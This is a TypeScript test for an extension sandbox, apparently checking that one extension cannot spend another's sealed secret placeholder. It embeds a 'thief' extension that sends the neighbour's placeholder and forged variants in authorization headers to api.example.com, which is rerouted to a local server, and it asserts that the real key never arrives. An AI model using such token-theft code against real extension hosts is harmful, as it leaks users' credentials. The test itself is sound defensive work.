// Attack: send a neighbour's stand-in for its key to a host of one's own.
// Would work: if a stand-in were a name for a secret, whoever writes the name would spend it.
// Stopped by: stand-ins that mean something to the isolate alone that was given them.

import assert from 'node:assert/strict';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { it } from 'node:test';

import { manifestFor, startTestHost } from '../helpers/host.ts';

const KEY = 'sk_live_neighbour_0042';
const HOSTS = ['api.example.com'];
const CODE = `import { defineOther, secret, z } from 'cofferdam/sdk';
export default defineOther({
  config: z.object({ key: secret({ label: 'Key' }) }),
  async execute(input: any, ctx: any) {
    if (input === 'show') return ctx.config.key;
    const made = [input, 'sealed:', 'sealed:' + '0'.repeat(32), ctx.config.key.slice(0, -1) + 'x'];
    for (const each of made) await ctx.fetch('https://api.example.com/', { headers: { authorization: each, 'x-all': made.join() } });
    return 'sent';
  },
} as any);
`;

it('spends no stand-in that another extension was given', { timeout: 60_000 }, async () => {
  const seen: string[] = [];
  const server = createServer((request, response) => {
    seen.push(request.rawHeaders.join('\n'));
    response.end('ok');
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  const { port } = server.address() as AddressInfo;
  const files = (name: string): Record<string, string> => {
    const secrets = { key: { hosts: HOSTS, in: ['header'] } };
    const manifest = manifestFor(name, { capabilities: { fetch: { hosts: HOSTS } }, secrets });
    return { 'extension.ts': CODE, 'manifest.json': JSON.stringify(manifest) };
  };
  await using host = await startTestHost(
    { 'others/owner': files('others/owner'), 'others/thief': files('others/thief') },
    {
      egress: {
        resolve: async () => ['93.184.215.14'],
        detour: () => ({ address: '127.0.0.1', port, plain: true }),
      },
    },
  );
  await host.enable('others/owner', { key: KEY });
  await host.enable('others/thief', { key: 'sk_live_of_the_thief' });
  const standIn = (await host.call('others/owner', 'execute', 'show')).body.result;
  assert.match(standIn, /^sealed:/);
  await host.call('others/thief', 'execute', standIn);
  server.closeAllConnections();
  server.close();
  assert.ok(!seen.join().includes(KEY), seen.join());
});
